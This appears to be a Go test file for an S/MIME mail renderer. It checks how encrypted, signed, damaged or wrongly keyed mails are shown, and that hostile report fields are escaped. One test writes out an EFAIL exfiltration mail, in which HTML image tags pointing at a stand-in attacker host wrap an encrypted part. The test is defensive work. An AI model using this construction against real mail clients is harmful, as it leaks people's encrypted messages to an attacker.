package page

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"io"
	"math/big"
	"regexp"
	"strings"
	"testing"
	"time"

	"dnseal/receiver"
	"dnseal/smime"
	"dnseal/smime/cms"
	"dnseal/smime/cms/enveloped"
	"dnseal/smime/message"
)

// secret is a mail before it is encrypted.
const secret = "From: alice@example.org\r\nTo: bob@example.net\r\nSubject: The <plan> for Tuesday\r\nKeywords: secret\r\nDate: Tue, 24 Nov 2026 11:00:00 +0000\r\n" +
	"Message-ID: <plan@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nWe meet at noon. The sum is 100 euros.\r\n"

// steadyKey signs the same with the same.
type steadyKey struct{ crypto.Signer }

func (k steadyKey) Sign(_ io.Reader, digest []byte, opts crypto.SignerOpts) ([]byte, error) {
	return k.Signer.Sign(nil, digest, opts)
}

// alice signs by the key that the zones of the vectors publish.
func alice(tb testing.TB) cms.Signer {
	tb.Helper()
	block, _ := pem.Decode(readFile(tb, "../../testdata/keys/alice.pem"))
	key, err := x509.ParsePKCS8PrivateKey(block.Bytes)
	if err != nil {
		tb.Fatal(err)
	}
	return cms.Signer{Key: steadyKey{key.(crypto.Signer)}, Certificate: certify(tb, "alice@example.org", 1, steadyKey{key.(crypto.Signer)})}
}

func certify(tb testing.TB, address string, serial int64, key crypto.Signer) *x509.Certificate {
	tb.Helper()
	template := &x509.Certificate{
		SerialNumber: big.NewInt(serial), EmailAddresses: []string{address}, NotBefore: clock.AddDate(-1, 0, 0), NotAfter: clock.AddDate(1, 0, 0),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		tb.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		tb.Fatal(err)
	}
	return cert
}

// reader has a key that decrypts, whose certificate has that serial number.
func reader(tb testing.TB, serial int64) enveloped.Key {
	tb.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		tb.Fatal(err)
	}
	return enveloped.Key{Private: key, Certificate: certify(tb, "bob@example.net", serial, key)}
}

// seal encrypts a mail for the reader, signed before by alice.
func seal(tb testing.TB, text string, to enveloped.Key, cipher enveloped.Cipher, signed bool) string {
	tb.Helper()
	m, err := message.Read(strings.NewReader(text), message.ReadOptions{})
	if err != nil {
		tb.Fatal(err)
	}
	defer m.Close()
	opts := smime.EncryptOptions{Recipients: []enveloped.Recipient{{Certificate: to.Certificate}}, Cipher: cipher}
	var edit *message.Edit
	if signed {
		edit, err = smime.Sign(tb.Context(), m, smime.SignOptions{Signers: []cms.Signer{alice(tb)}, Time: clock.Add(-time.Hour), Encrypt: &opts})
	} else {
		edit, err = smime.Encrypt(tb.Context(), m, opts)
	}
	if err != nil {
		tb.Fatal(err)
	}
	defer edit.Close()
	var out bytes.Buffer
	if _, err := m.WriteEdited(&out, edit); err != nil {
		tb.Fatal(err)
	}
	return out.String()
}

// damage changes a letter of the base64 body, some way from its end.
func damage(text string) string {
	at := len(text) - 30
	other := byte('A')
	if text[at] == other {
		other = 'B'
	}
	return text[:at] + string(other) + text[at+1:]
}

// opened is the report on a text with keys at hand.
func opened(tb testing.TB, text string, keys ...enveloped.Key) (*receiver.Report, *message.Message) {
	tb.Helper()
	return verify(tb, newReceiverWith(tb, readFile(tb, vectors+"001-pass.zone"), smime.DecryptOptions{Keys: keys}), []byte(text))
}

// encrypted are reports of each kind on encrypted mail.
func encrypted(tb testing.TB) map[string]func() (*receiver.Report, *message.Message) {
	tb.Helper()
	bob := reader(tb, 2)
	return map[string]func() (*receiver.Report, *message.Message){
		"encrypted-pass": func() (*receiver.Report, *message.Message) { return opened(tb, seal(tb, secret, bob, "", true), bob) },
		"encrypted-authenticated-pass": func() (*receiver.Report, *message.Message) {
			return opened(tb, seal(tb, secret, bob, enveloped.AES256GCM, true), bob)
		},
		"encrypted-only":   func() (*receiver.Report, *message.Message) { return opened(tb, seal(tb, secret, bob, "", false), bob) },
		"encrypted-no-key": func() (*receiver.Report, *message.Message) { return opened(tb, seal(tb, secret, bob, "", true)) },
		"encrypted-other-key": func() (*receiver.Report, *message.Message) {
			return opened(tb, seal(tb, secret, bob, "", true), reader(tb, 3))
		},
		"encrypted-damaged": func() (*receiver.Report, *message.Message) {
			return opened(tb, damage(seal(tb, secret, bob, enveloped.AES128GCM, true)), bob)
		},
	}
}

var digest = regexp.MustCompile(`\b([0-9a-f]{64}|[0-9a-f]{2}(:[0-9a-f]{2}){31})\b`)

// TestGoldenEncrypted has one page of each kind of encrypted mail.
func TestGoldenEncrypted(t *testing.T) {
	t.Parallel()
	for name, make := range encrypted(t) {
		r, m := make()
		html := write(t, r, m)
		checkGolden(t, name, digest.ReplaceAllString(steady(html), "(digest)"))
		if strings.Contains(html, "100 euros") != strings.HasSuffix(name, "pass") && name != "encrypted-only" {
			t.Errorf("%s: the text is shown or is not, the other way round", name)
		}
	}
}

// TestPartEncrypted: a part that is encrypted beside text in clear is never opened, even with the
// key at hand (EFAIL).
func TestPartEncrypted(t *testing.T) {
	t.Parallel()
	bob := reader(t, 2)
	sealed := seal(t, secret, bob, enveloped.AES128GCM, true)
	_, part, ok := strings.Cut(sealed, "\r\nMIME-Version: 1.0\r\n")
	if !ok {
		t.Fatalf("no part in %s", sealed)
	}
	mixed := "From: mallory@mallory.example\r\nTo: bob@example.net\r\nSubject: Look\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://mallory.example/?\r\n--b\r\n" + part + "\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
	r, m := opened(t, mixed, bob)
	html := write(t, r, m)
	if strings.Contains(html, "100 euros") || strings.Contains(html, "&lt;plan&gt;") || len(r.Encryption) > 0 {
		t.Errorf("what was encrypted is shown beside what was not:\n%s", html)
	}
	if !strings.Contains(html, "Encrypted: it cannot be seen") {
		t.Errorf("an encrypted part is not named:\n%s", html)
	}
}

// TestEncryptionFacts: what strangers put into a report is text, and many layers are cut.
func TestEncryptionFacts(t *testing.T) {
	t.Parallel()
	r, m := vector(t, "022-none-unsigned")
	for range 8 {
		r.Encryption = append(r.Encryption, receiver.EncryptionReport{Error: "<b>"}, receiver.EncryptionReport{Algorithm: "<i>", KeyEncryption: "<u>", Recipients: 1000, Warning: "<s>"})
	}
	r.ProtectedSubject, r.Subject = "<b>inner", ""
	html := write(t, r, m)
	for _, want := range []string{"not opened: <bdi>&lt;b&gt;</bdi>", "<bdi>&lt;i&gt;</bdi>, key by <bdi>&lt;u&gt;</bdi>, 1,000 recipients", "<b>Warning:</b> <bdi>&lt;s&gt;.</bdi>", "11 more layers", "&lt;b&gt;inner"} {
		if !strings.Contains(html, want) {
			t.Errorf("no %q in:\n%s", want, html)
		}
	}
}
